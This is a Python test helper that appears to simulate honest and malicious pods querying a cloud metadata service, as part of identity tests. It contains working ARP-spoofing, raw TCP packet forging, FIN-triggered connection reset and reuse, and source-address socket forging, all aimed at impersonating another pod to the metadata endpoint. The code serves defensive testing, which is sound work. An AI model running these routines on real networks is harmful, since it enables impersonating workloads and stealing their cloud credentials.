"""What a pod does in the identity tests, honest or not. Needs Python's standard library only.

get HOST PORT [SOURCE] [transparent]   one request by a kernel socket; prints the body, or why not
repeat HOST PORT COUNT PAUSE [wait]    that many requests, a connection each; prints bodies, median and slowest in ms
hold HOST PORT                         connects, prints the port, and sends a request per input line
poison SOURCE GATEWAY                  ARP spoofing alone, until its input ends
raw SOURCE PORT GATEWAY                ARP spoofing, then one request by raw packets from SOURCE:PORT
reuse SOURCE PORT GATEWAY              takes the FIN of that connection, resets it, then as raw
forge SOURCE FROM TO                   established sockets SOURCE:FROM…TO in this namespace
loop HOST PORT SECONDS [SOURCE...]     connects without a pause, from each source in turn; prints how often
"""
import fcntl
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time

METADATA = "169.254.169.254"
IP_TRANSPARENT = 19
TARGET = os.environ.get("REQUEST_PATH", "/").encode()
REQUEST = b"GET " + TARGET + b" HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"
FIN, SYN, RST, ACK = 1, 2, 4, 16
# Only a hang has to end: how long an answer took is judged by the tests.
PATIENCE = 10


def body(text):
    return text.decode("latin1").partition("\r\n\r\n")[2] or "nothing"


def read_all(sock):
    received = b""
    while True:
        piece = sock.recv(65536)
        if not piece:
            return received
        received += piece


def request(host, port, source=None, transparent=None):
    sock = socket.socket()
    sock.settimeout(PATIENCE)
    if transparent:
        sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    if source:
        sock.bind((source, 0))
    sock.connect((host, int(port)))
    sock.sendall(REQUEST)
    return body(read_all(sock))


def get(*ends):
    print(request(*ends), flush=True)


def repeat(host, port, count, pause, wait=None):
    bodies, took = set(), []
    if wait:
        print("waiting", flush=True)
        sys.stdin.readline()
    for _ in range(int(count)):
        start = time.monotonic()
        bodies.add(request(host, port))
        took.append(round((time.monotonic() - start) * 1000))
        time.sleep(float(pause))
    took.sort()
    print(json.dumps({"bodies": sorted(bodies), "medianMs": took[len(took) // 2], "slowestMs": took[-1]}), flush=True)


def hold(host, port):
    sock = socket.create_connection((host, int(port)), 3)
    print(sock.getsockname()[1], flush=True)
    for _ in sys.stdin:
        try:
            sock.sendall(REQUEST.replace(b"Connection: close\r\n", b""))
            print(body(sock.recv(65536)), flush=True)
        except OSError as error:
            print(error, flush=True)


def loop(host, port, seconds, *sources):
    count, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        source = (sources[count % len(sources)], 0) if sources else None
        try:
            with socket.create_connection((host, int(port)), 1, source) as sock:
                sock.sendall(REQUEST)
                sock.recv(65536)
            count += 1
        except OSError:
            pass
    print(count, flush=True)


def forge(source, first, last):
    server = socket.socket()
    server.bind((METADATA, 80))
    server.listen(1000)
    sockets = []
    for port in range(int(first), int(last) + 1):
        sock = socket.socket()
        sock.bind((source, port))
        sock.connect((METADATA, 80))
        sockets += [sock, server.accept()[0]]
    print("forged", flush=True)
    sys.stdin.read()


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Wire:
    """Raw Ethernet on eth0, as NET_RAW allows."""

    def __init__(self, source, port, gateway):
        self.source, self.port = socket.inet_aton(source), int(port)
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        self.sock.bind(("eth0", 0))
        self.mac = self.sock.getsockname()[4]
        self.gateway_ip = socket.inet_aton(gateway)
        self.gateway = self.ask_mac()
        threading.Thread(target=self.poison, daemon=True).start()
        time.sleep(0.3)

    def own_ip(self):
        request = struct.pack("256s", b"eth0")
        with socket.socket() as sock:
            return fcntl.ioctl(sock.fileno(), 0x8915, request)[20:24]

    def arp(self, kind, sender_ip, target_mac):
        header = struct.pack("!HHBBH", 1, 0x0800, 6, 4, kind)
        packet = header + self.mac + sender_ip + target_mac + self.gateway_ip
        destination = target_mac if kind == 2 else b"\xff" * 6
        self.sock.send(destination + self.mac + b"\x08\x06" + packet)

    def ask_mac(self):
        own = self.own_ip()
        for _ in range(20):
            self.arp(1, own, b"\0" * 6)
            end = time.monotonic() + 0.2
            while time.monotonic() < end:
                if not select.select([self.sock], [], [], 0.1)[0]:
                    continue
                frame = self.sock.recv(65536)
                if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\2" and frame[28:32] == self.gateway_ip:
                    return frame[22:28]
        raise SystemExit("no gateway")

    def poison(self):
        """The node sends what is for the victim's address to us."""
        while True:
            self.arp(2, self.source, self.gateway)
            time.sleep(0.05)

    def send(self, flags, seq, ack, data=b""):
        target = socket.inet_aton(METADATA)
        tcp = struct.pack("!HHIIBBHHH", self.port, 80, seq, ack, 5 << 4, flags, 65535, 0, 0)
        pseudo = self.source + target + struct.pack("!BBH", 0, 6, len(tcp) + len(data))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(data), random.randrange(65536), 0, 64, 6, 0)
        ip += self.source + target
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self.sock.send(self.gateway + self.mac + b"\x08\x00" + ip + tcp + data)

    def receive(self, seconds):
        """The next segment from the metadata address: flags, sequence number, acknowledgement, data."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if not select.select([self.sock], [], [], 0.1)[0]:
                continue
            frame = self.sock.recv(65536)
            if frame[12:14] != b"\x08\x00" or frame[23] != 6:
                continue
            ip = frame[14:]
            tcp = ip[(ip[0] & 15) * 4:struct.unpack("!H", ip[2:4])[0]]
            if ip[12:16] != socket.inet_aton(METADATA) or ip[16:20] != self.source:
                continue
            source, target, seq, ack, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
            if target == self.port and source == 80 and frame[:6] == self.mac:
                return flags, seq, ack, tcp[(offset >> 4) * 4:]
        return None

    def request(self):
        seq = random.randrange(1 << 31)
        for _ in range(5):
            self.send(SYN, seq, 0)
            segment = self.receive(1)
            if segment and segment[0] & SYN:
                break
        else:
            return "no connection"
        seq, next_seq, text = seq + 1, segment[1] + 1, b""
        self.send(ACK, seq, next_seq)
        end = time.monotonic() + PATIENCE
        self.send(ACK, seq, next_seq, REQUEST)
        while time.monotonic() < end:
            segment = self.receive(1)
            if segment is None:
                # A segment may be lost, and nobody else repeats it.
                self.send(ACK, seq, next_seq, REQUEST)
                continue
            flags, at, _, data = segment
            if flags & RST:
                break
            if at != next_seq:
                continue
            text += data
            next_seq = at + len(data) + (1 if flags & FIN else 0)
            self.send(ACK, seq + len(REQUEST), next_seq)
            if flags & FIN:
                break
        return body(text)

    def reset(self):
        """The agent gives up the idle connection; the victim never hears of it."""
        while segment := self.receive(20):
            flags, seq, ack, _ = segment
            if flags & FIN:
                self.send(RST | ACK, ack, seq + 1)
                time.sleep(0.3)
                return
        raise SystemExit("no FIN")


def poison(source, gateway):
    Wire(source, 0, gateway)
    print("poisoning", flush=True)
    sys.stdin.read()


def raw(*ends):
    print(Wire(*ends).request(), flush=True)


def reuse(*ends):
    wire = Wire(*ends)
    print("poisoning", flush=True)
    wire.reset()
    print(wire.request(), flush=True)


try:
    globals()[sys.argv[1]](*sys.argv[2:])
except OSError as error:
    print(error, flush=True)
